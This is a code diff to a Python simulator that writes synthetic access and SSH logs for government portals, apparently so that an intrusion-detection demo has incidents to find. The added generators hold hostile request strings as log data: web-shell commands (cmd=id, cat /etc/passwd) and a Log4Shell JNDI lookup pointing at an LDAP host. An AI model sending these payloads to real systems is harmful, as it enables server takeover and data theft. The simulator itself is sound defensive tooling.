@@ -44,6 +44,21 @@ class Portal:
     path: Path
 
 
+@dataclass(frozen=True)
+class Attack:
+    """One attack the simulator wrote: what the detection should turn into an incident of its system's agency."""
+
+    kind: str  # sqli, traversal, scanner, ssh, flood, record_walk, webshell, log4shell
+    source_ip: str | None  # None for the flood, which comes from many addresses
+    system: str | None  # the portal written to; None for the SSH attempts (the auth log)
+    at: datetime
+
+
+#: The headline attacks come from addresses the random attackers never use (their last byte is 2-250), so
+#: each stays its own incident.
+HEADLINE_ADDRESSES = {"record_walk": "203.0.113.1", "webshell": "198.51.100.1", "log4shell": "192.0.2.1"}
+
+
 def _clf_time(moment: datetime) -> str:
     local = moment.astimezone(VIETNAM)
     return local.strftime("%d/%b/%Y:%H:%M:%S +0700")
@@ -57,6 +72,7 @@ class TrafficSimulator:
         self.random = random.Random(seed)
         self.rate = rate  # citizen requests per second per portal
         self.clock = clock
+        self.attacks: list[Attack] = []  # every attack written, in order
 
     # one line -----------------------------------------------------------------------------------
     def citizen_ip(self) -> str:
@@ -94,6 +110,10 @@ class TrafficSimulator:
     # attacks --------------------------------------------------------------------------------------
     def attack_lines(self, at: datetime) -> tuple[str, list[str]]:
         """One attack burst: which kind, and its lines (access-log lines, or auth-log lines for SSH)."""
+        kind, _, lines = self._attack(at)
+        return kind, lines
+
+    def _attack(self, at: datetime) -> tuple[str, str, list[str]]:
         r = self.random
         kind = r.choice(["sqli", "traversal", "scanner", "ssh"])
         ip = self.attacker_ip()
@@ -119,25 +139,73 @@ class TrafficSimulator:
                 invalid = "" if user == "root" else "invalid user "
                 lines.append(f"{stamp} dvc-web01 sshd[{2000 + n}]: Failed password for {invalid}{user} "
                              f"from {ip} port {r.randint(30000, 65000)} ssh2\n")
-        return kind, lines
+        return kind, ip, lines
 
-    def flood_lines(self, at: datetime, count: int) -> list[str]:
-        """A request flood from many addresses: what the anomaly detector should notice."""
-        return [self.access_line(at - timedelta(milliseconds=60_000 - i * 60_000 // count), self.attacker_ip(), "GET",
+    def flood_lines(self, at: datetime, count: int, seconds: int = 60) -> list[str]:
+        """A request flood from many addresses over the ``seconds`` before ``at``: what the anomaly detector
+        should notice."""
+        span = seconds * 1000
+        return [self.access_line(at - timedelta(milliseconds=span - i * span // count), self.attacker_ip(), "GET",
                                  "/thu-tuc-hanh-chinh/tra-cuu?tu_khoa=a", self.random.choice([200, 503, 503]),
                                  AGENTS[0]) for i in range(count)]
 
+    # the headline attacks: one of each thing the demo should show --------------------------------------
+    def record_walk_lines(self, at: datetime, ip: str, count: int = 40) -> list[str]:
+        """Dossier codes looked up one after another, each answered: other citizens' records read."""
+        day = at.astimezone(VIETNAM)
+        return [self.access_line(at - timedelta(seconds=1.5 * (count - n)), ip, "GET",
+                                 f"/ho-so/tra-cuu?ma_ho_so=000.00.31.H22-{day:%y%m%d}-{1200 + n:04d}", 200,
+                                 AGENTS[2], size=self.random.randint(3_000, 6_000)) for n in range(count)]
+
+    def webshell_lines(self, at: datetime, ip: str) -> list[str]:
+        """A PHP file uploaded as a "photo", then run with commands: the attacker controls the server."""
+        shell = "/uploads/2026/anh-the-cong-dan.php"
+        steps = [("POST", "/dich-vu-cong/nop-ho-so/tai-len", 200), ("GET", f"{shell}?cmd=id", 200),
+                 ("GET", f"{shell}?cmd=cat%20/etc/passwd", 200), ("GET", f"{shell}?cmd=ls%20-la%20/var/www", 200)]
+        return [self.access_line(at - timedelta(seconds=4 * (len(steps) - n)), ip, method, target, status, AGENTS[1])
+                for n, (method, target, status) in enumerate(steps)]
+
+    def log4shell_lines(self, at: datetime, ip: str) -> list[str]:
+        """JNDI lookups in the query and the user agent (CVE-2021-44228)."""
+        lookup = f"${{jndi:ldap://{ip}:1389/Exploit}}"
+        return [self.access_line(at - timedelta(seconds=2), ip, "GET",
+                                 f"/thu-tuc-hanh-chinh/tra-cuu?tu_khoa={quote(lookup)}", 400, lookup),
+                self.access_line(at, ip, "GET", "/", 200, lookup)]
+
+    def headline(self, at: datetime, *, breach: Portal, serious: Portal, critical: Portal) -> dict[str, Attack]:
+        """Write one dossier walk (a personal-data breach), one web shell (on the portal whose incident is to be
+        serious) and one Log4Shell probe (critical); the attacks by kind."""
+        written = {}
+        for kind, portal, make in (("record_walk", breach, self.record_walk_lines),
+                                   ("webshell", serious, self.webshell_lines),
+                                   ("log4shell", critical, self.log4shell_lines)):
+            ip = HEADLINE_ADDRESSES[kind]
+            with portal.path.open("a", encoding="utf-8") as out:
+                out.writelines(make(at, ip))
+            written[kind] = Attack(kind, ip, portal.system, at)
+            self.attacks.append(written[kind])
+        return written
+
     # writing ----------------------------------------------------------------------------------------
-    def backfill(self, minutes: int) -> int:
-        """Write the last ``minutes`` of ordinary traffic (with a few attacks), oldest first."""
+    def backfill(self, minutes: int, *, flood: bool = False) -> int:
+        """Write the last ``minutes`` of ordinary traffic (with a few attacks), oldest first. With ``flood``,
+        the first portal also had a request flood inside the minute that began two minutes ago: an anomaly
+        the detector finds on its first run, against the history before it."""
         now = self.clock()
         written = 0
-        for portal in self.portals:
+        # From a minute's start: a first window only partly filled would look like a quiet outlier to the model.
+        begin = (now - timedelta(minutes=minutes)).replace(second=0, microsecond=0)
+        for index, portal in enumerate(self.portals):
             lines = []
-            moment = now - timedelta(minutes=minutes)
+            moment = begin
             while moment < now - timedelta(seconds=1):
                 lines.append(self.citizen_line(moment))
                 moment += timedelta(seconds=self.random.expovariate(self.rate))
+            if flood and index == 0:
+                minute = (now - timedelta(minutes=2)).replace(second=0, microsecond=0)
+                lines += self.flood_lines(minute + timedelta(seconds=45), int(self.rate * 60 * 25), seconds=40)
+                lines.sort(key=_line_time)
+                self.attacks.append(Attack("flood", None, portal.system, minute))
             with portal.path.open("a", encoding="utf-8") as out:
                 out.writelines(lines)
             written += len(lines)
@@ -165,11 +233,17 @@ class TrafficSimulator:
             if not flooded and now - started >= timedelta(seconds=flood_after):
                 with self.portals[0].path.open("a", encoding="utf-8") as out:
                     out.writelines(self.flood_lines(now, int(self.rate * 60 * 25)))
+                self.attacks.append(Attack("flood", None, self.portals[0].system, now))
                 flooded = True
 
     def _write_attack(self, at: datetime) -> int:
-        kind, lines = self.attack_lines(at)
-        path = self.auth_log if kind == "ssh" else self.random.choice(self.portals).path
-        with path.open("a", encoding="utf-8") as out:
+        kind, ip, lines = self._attack(at)
+        portal = None if kind == "ssh" else self.random.choice(self.portals)
+        with (self.auth_log if portal is None else portal.path).open("a", encoding="utf-8") as out:
             out.writelines(lines)
+        self.attacks.append(Attack(kind, ip, portal.system if portal else None, at))
         return len(lines)
+
+
+def _line_time(line: str) -> datetime:
+    return datetime.strptime(line.split("[", 1)[1][:26], "%d/%b/%Y:%H:%M:%S %z")
